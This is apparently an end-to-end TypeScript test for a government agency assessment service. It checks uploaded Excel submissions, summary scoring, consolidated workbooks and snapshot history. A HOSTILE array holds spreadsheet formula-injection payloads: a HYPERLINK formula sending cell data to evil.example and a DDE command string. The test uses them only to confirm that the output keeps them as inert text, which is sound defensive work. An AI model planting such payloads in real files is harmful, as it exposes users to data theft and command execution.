/**
 * End to end: 58 agencies are registered, 56 upload filled templates with known answers over real
 * HTTP (dynalite store, archive folder); the summary JSON and the consolidated workbook must match
 * a computation made here, independently of shared/core/summary, and typed text must stay text.
 */

import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAllAggregations } from '../functions/aggregate/aggregation-service.js';
import { ANSWER_LABELS, JUSTIFICATION_LABELS } from '../shared/core/answers.js';
import { summarySchema } from '../shared/core/summary/summary-schema.js';
import type { NormalizedResponse } from '../shared/core/types.js';
import { safeText } from '../shared/core/workbook/safe-text.js';
import { sampleResponses } from './fixtures/sample-assessment.js';
import { createAssessment, registerAgency, startAggregatingService } from './support/assessment-setup.js';
import type { DynamoBackend } from './support/dynamo-backends.js';
import type { TestService } from './support/test-service.js';
import { FRAMEWORK, filledWorkbook } from './support/workbooks.js';

const AID = 'jateng-e2e';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click") says our regulation',
  "+cmd|' /C calc'!A0 is the programme",
  '@SUM(1) best practice of the regency',
  '-2+3 is how many one-stop centres we run',
];
const code = (i: number) => `DINAS-${i + 1}`;

/** Known answers of agency i; the first three agencies typed formula-like text. */
function known(i: number): NormalizedResponse[] {
  return sampleResponses(FRAMEWORK, i, 7).map((r, k) =>
    i < 3 && r.justification
      ? { ...r, justification: HOSTILE[(i + k) % HOSTILE.length]!, evidence: HOSTILE[k % 4]! }
      : r,
  );
}

/** The rules of PRODUCT.md, written out again here without the code under test. */
function independentIndicator(answers: (string | null)[]) {
  const n = (v: string | null) => answers.filter((a) => a === v).length;
  const [yes, partially, no] = [n('yes'), n('partially'), n('no')];
  const votes = yes + partially + no;
  let consensus: string | null = null;
  if (votes > 0) consensus = yes * 2 > votes ? 'yes' : no * 2 > votes ? 'no' : 'partially';
  return {
    counts: {
      yes,
      partially,
      no,
      dont_know: n('dont_know'),
      not_applicable: n('not_applicable'),
      unanswered: n(null),
    },
    consensus,
    agreement: votes === 0 ? null : Number((Math.max(yes, partially, no) / votes).toFixed(3)),
    disagreement: yes > 0 && no > 0,
  };
}

describe('consolidation end to end over HTTP', () => {
  let backend: DynamoBackend;
  let svc: TestService;
  const submitted = 56;
  const all = Array.from({ length: submitted }, (_, i) => known(i));

  beforeAll(async () => {
    ({ backend, service: svc } = await startAggregatingService());
    await createAssessment(svc, AID, 'Jawa Tengah');
    const tokens: string[] = [];
    for (let i = 0; i < 58; i++)
      tokens.push(
        await registerAgency(svc, AID, { code: code(i), name: `Dinas ${i + 1}`, level: 'regency' }),
      );
    const uploadOne = async (i: number) => {
      const rows = all[i]!.map((r) => ({
        indicatorId: r.indicatorId,
        answer: r.answer ? ANSWER_LABELS.en[r.answer] : null,
        justificationType: r.justificationType ? JUSTIFICATION_LABELS.en[r.justificationType] : null,
        justification: r.justification,
        evidence: r.evidence,
      }));
      const bytes = await filledWorkbook({ assessmentId: AID, agencyCode: code(i), rows });
      const res = await svc.call('POST', `/api/assessments/${AID}/submissions`, {
        token: tokens[i]!,
        body: bytes as Uint8Array<ArrayBuffer>,
        headers: { 'content-type': XLSX },
      });
      expect(res.status, await res.clone().text()).toBe(201);
    };
    for (let i = 0; i < submitted; i += 4)
      await Promise.all([i, i + 1, i + 2, i + 3].filter((k) => k < submitted).map(uploadOne));
  }, 120_000);

  afterAll(async () => {
    await svc?.close();
    await backend?.close();
  });

  it('GET summary matches an independent computation', async () => {
    const res = await svc.call('GET', `/api/assessments/${AID}/summary`, { token: svc.adminToken });
    expect(res.status).toBe(200);
    const summary = summarySchema.parse(await res.json());
    expect(summary.agencies).toEqual({ registered: 58, submitted, missing: ['DINAS-57', 'DINAS-58'] });
    FRAMEWORK.indicators.forEach((indicator, k) => {
      const line = summary.indicators[k]!;
      expect(line.id).toBe(indicator.id);
      expect(line).toMatchObject(independentIndicator(all.map((responses) => responses[k]!.answer)));
    });
    for (const domain of summary.domains) {
      const lines = summary.indicators.filter((l) => l.domainId === domain.id && l.consensus !== null);
      const points = lines.map((l) => ({ yes: 1, partially: 0.5, no: 0 })[l.consensus as 'yes']);
      const expected = lines.length
        ? Math.round((1000 * points.reduce((a, b) => a + b, 0)) / lines.length) / 10
        : null;
      expect(domain.score).toBe(expected);
    }
  });

  it('GET consolidated.xlsx: responses, matrix colours and typed text as text', async () => {
    const res = await svc.call('GET', `/api/assessments/${AID}/consolidated.xlsx?lang=en`, {
      token: svc.adminToken,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes.buffer as ArrayBuffer);
    const responses = book.getWorksheet('Responses')!;
    expect(responses.rowCount).toBe(1 + submitted * 76);
    const seen = new Map<string, unknown>();
    responses.eachRow((row, n) => {
      if (n > 1) seen.set(`${row.getCell(1).value}|${row.getCell(3).value}`, row.getCell(7).value ?? null);
    });
    all.forEach((agencyResponses, i) => {
      // Formula-like text keeps a leading apostrophe, so editing the cell in Excel never runs it.
      for (const r of agencyResponses)
        expect(seen.get(`${code(i)}|${r.indicatorId}`)).toBe(
          r.justification === null ? null : safeText(r.justification),
        );
    });
    for (const h of HOSTILE) expect([...seen.values()]).toContain(safeText(h));
    const matrix = book.getWorksheet('Matrix')!;
    expect(matrix.getRow(1).getCell(5).value).toBe('DINAS-1');
    const fill = (matrix.getRow(2).getCell(5).fill as ExcelJS.FillPattern).fgColor?.argb;
    expect(fill).toBe(
      {
        yes: 'FFC6EFCE',
        partially: 'FFFFE699',
        no: 'FFFFC7CE',
        dont_know: 'FFD9D9D9',
        not_applicable: 'FFF2F2F2',
        null: 'FFFFFFFF',
      }[String(all[0]![0]!.answer)],
    );
    const files = unzipSync(bytes);
    for (const [name, data] of Object.entries(files)) {
      if (name.startsWith('xl/worksheets/')) expect(strFromU8(data)).not.toMatch(/<f[\s>]/);
    }
  });

  it('POST aggregate stores a snapshot each run, with both workbooks', async () => {
    for (let run = 0; run < 2; run++) {
      const res = await svc.call('POST', `/api/assessments/${AID}/aggregate`, { token: svc.adminToken });
      expect(res.status).toBe(200);
      expect(summarySchema.parse(await res.json()).agencies.submitted).toBe(submitted);
    }
    const history = await svc.deps.snapshots!.listSnapshots(AID);
    expect(history).toHaveLength(2);
    const latest = await svc.deps.snapshots!.getLatestSnapshot(AID);
    expect(summarySchema.parse(latest!.summary).agencies.registered).toBe(58);
    const id = await svc.deps.snapshots!.getSnapshotWorkbook(latest!, 'id');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(id!.buffer as ArrayBuffer);
    expect(book.worksheets.map((s) => s.name)).toEqual([
      'Ringkasan',
      'Indikator',
      'Matriks',
      'Jawaban',
      'Instansi',
      'Sorotan',
      'Temuan',
    ]);
  });

  it('the scheduled run aggregates every assessment and adds to the history', async () => {
    const results = await runAllAggregations(svc.deps, 'schedule');
    expect(results.map((r) => [r.assessmentId, r.ok])).toEqual([[AID, true]]);
    expect(await svc.deps.snapshots!.listSnapshots(AID)).toHaveLength(3);
  });
});
